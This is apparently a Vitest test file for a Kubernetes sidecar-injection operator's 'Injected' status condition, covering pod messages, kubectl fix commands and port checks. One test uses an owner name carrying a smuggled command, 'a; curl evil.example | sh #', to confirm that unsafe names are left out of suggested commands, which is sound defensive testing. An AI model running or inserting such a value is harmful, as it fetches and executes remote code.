import { describe, expect, test } from 'vitest';
import { type MCPServer, mcpServerSchema } from '../../../core/api/mcp-server.ts';
import { readRecord } from '../../injection/record.ts';
import type { RawPod } from '../../injection/pod.ts';
import { cachesWith, mcpServer, pod } from '../../testing/gen.ts';
import { type InPods, placementOf } from '../../placement.ts';
import { gatherFacts } from '../facts.ts';
import { injected } from './injected.ts';
import { settings, current, injectedPod, facts, enabledNamespace, server } from './testing/cases.ts';

const NOW = Date.parse('2026-11-21T10:00:00Z');

test('what the injector writes down is read back', () => {
  expect(readRecord(injectedPod() as unknown as RawPod)).toMatchObject({ port: 9000 });
});

describe('Injected', () => {
  test('True when every pod carries the current sidecar', () => {
    expect(injected(facts([injectedPod(), injectedPod({ name: 'ledger-2' })]), settings, NOW)).toMatchObject({
      status: 'True',
      message: '2 of 2 pods carry the sidecar',
    });
  });
  test('False when the selector finds nothing, with the selector', () => {
    const { reason, message } = injected(facts([]), settings, NOW);
    expect(reason).toBe('NoPods');
    expect(message).toContain('app=ledger');
  });
  test('False names the pods without sidecar and the commands that mend it', () => {
    const bare = pod({ gateOf: null, name: 'ledger-7d9f-x', owner: { kind: 'StatefulSet', name: 'ledger' } });
    const { reason, message } = injected(facts([bare]), settings, NOW);
    expect(reason).toBe('PodsWithoutSidecar');
    expect(message).toContain('ledger-7d9f-x');
    expect(message).toContain(
      'kubectl label namespace finance sallyport.dev/injection=enabled, then kubectl -n finance rollout restart statefulset/ledger',
    );
  });
  test.each([
    [1, 'the pod has'],
    [2, '2 pods have'],
  ])('Unknown where %d pods of Jobs have ended, and none runs', (count, said) => {
    const pods = Array.from({ length: count }, (_, n) => ({
      ...pod({ name: `p${n}` }),
      status: { phase: 'Succeeded' },
    }));
    const { status, reason, message } = injected(facts(pods), settings, NOW);
    expect([status, reason, message]).toEqual(['Unknown', 'NoPods', `Nothing runs: ${said} done the work and ended.`]);
  });
  test('a namespace that is labelled already need not be labelled', () => {
    const { message } = injected(facts([pod({ gateOf: null })], [enabledNamespace]), settings, NOW);
    expect(message).not.toContain('kubectl label');
    expect(message).toContain('delete and create pod ledger-1 again');
  });
  test('the words of the injector for a pod it left alone are repeated', () => {
    const bare = pod({
      gateOf: null,
      annotations: { 'sallyport.dev/injection-skipped': 'the pod uses the host network' },
    });
    expect(injected(facts([bare]), settings, NOW).message).toContain('(the pod uses the host network)');
  });
  test('the Deployment behind a ReplicaSet is what has to be restarted', () => {
    const bare = pod({
      gateOf: null,
      labels: { app: 'ledger', 'pod-template-hash': '7d9f' },
      owner: { kind: 'ReplicaSet', name: 'ledger-7d9f' },
    });
    expect(injected(facts([bare]), settings, NOW).message).toContain('rollout restart deployment/ledger');
  });
  test.each([
    ['a pod without a gate', pod({ gateOf: null })],
    ['a pod with a gate made for an earlier spec', injectedPod()],
  ])('False when the port is none of %s, naming those there are', (_, found) => {
    const moved = mcpServer({ spec: { workload: { selector: { matchLabels: { app: 'ledger' } }, port: 'http' } } });
    const { reason, message } = injected(
      gatherFacts(moved, mcpServerSchema.parse(moved), placementOf(moved) as InPods, cachesWith(moved, found)),
      settings,
      NOW,
    );
    expect(reason).toBe('PortNotFound');
    expect(message).toContain('ledger-1: no container of the pod declares the TCP port http');
    expect(message).toContain('9000 (mcp) of container app');
  });
  test.each([
    ['a name that two containers have', { port: 'mcp' }, 'give the port name mcp to different numbers'],
    ['two entries of one port', { port: 9000, ports: [{ name: 'x', port: 9000 }] }, 'lead to port 9000 of the pod'],
    ['a further port that there is not', { port: 9000, ports: [{ name: 'x', port: 1 }] }, 'declares the TCP port 1'],
  ])('False for %s, with the mend', (_, workload, said) => {
    const bare = pod({ gateOf: null });
    const containers = [...bare.spec.containers, { name: 'other', ports: [{ name: 'mcp', containerPort: 9001 }] }];
    const moved = mcpServer({ spec: { workload: { selector: { matchLabels: { app: 'ledger' } }, ...workload } } });
    // The two of one number are refused by the schema, and may have been stored before.
    const parsed = { ...mcpServerSchema.parse(server), spec: moved.spec } as unknown as MCPServer;
    const caches = cachesWith(moved, { ...bare, spec: { containers } });
    const { reason, message } = injected(
      gatherFacts(moved, parsed, placementOf(moved) as InPods, caches),
      settings,
      NOW,
    );
    expect(reason).toBe('PortNotFound');
    expect(message).toContain(said);
  });
  test('an owner that would not be safe in a command that people type is not named', () => {
    const owners = [
      { kind: 'Deployment', name: 'a; curl evil.example | sh #' },
      { kind: 'Deployment', name: 'a', apiVersion: 'example.com/v1' },
    ];
    for (const owner of owners) {
      const { message } = injected(
        facts([pod({ gateOf: null, record: current, owner })], [enabledNamespace]),
        settings,
        NOW,
      );
      expect(message).not.toMatch(/evil|rollout restart/);
    }
  });
  test('False when a pod carries the gate of another server', () => {
    expect(injected(facts([injectedPod({ gateOf: 'other' })]), settings, NOW).reason).toBe('PodsWithoutSidecar');
  });
  test.each([
    ['passes while pods with a gate are new beside it: a rollout', '2026-11-21T09:55:00Z', true],
    ['stays when they have been there for long', '2026-11-21T09:49:59Z', undefined],
  ])('a pod without sidecar %s', (_, creationTimestamp, passes) => {
    const fresh = injectedPod({ name: 'b' });
    const pods = [pod({ gateOf: null }), { ...fresh, metadata: { ...fresh.metadata, creationTimestamp } }];
    const verdict = injected(facts(pods), settings, NOW);
    expect([verdict.status, verdict.reason, verdict.passes]).toEqual(['False', 'PodsWithoutSidecar', passes]);
  });
  test('False when another server claims the same pods, naming it', () => {
    const { reason, message } = injected(facts([injectedPod()], [mcpServer({ name: 'rival' })]), settings, NOW);
    expect(reason).toBe('PodsClaimedTwice');
    expect(message).toContain('MCPServer rival');
  });
  test.each([
    ['the sidecar image', { ...settings, image: 'sidecar:2' }],
    ['the log level', { ...settings, logLevel: 'debug' }],
  ])('says so when %s has changed since, and that the pods have their gate all the same', (_, changed) => {
    const { status, reason, message } = injected(facts([injectedPod()]), changed, NOW);
    expect([status, reason]).toEqual(['True', 'Outdated']);
    expect(message).toContain('ledger-1 carry a sidecar made for earlier settings');
  });
});
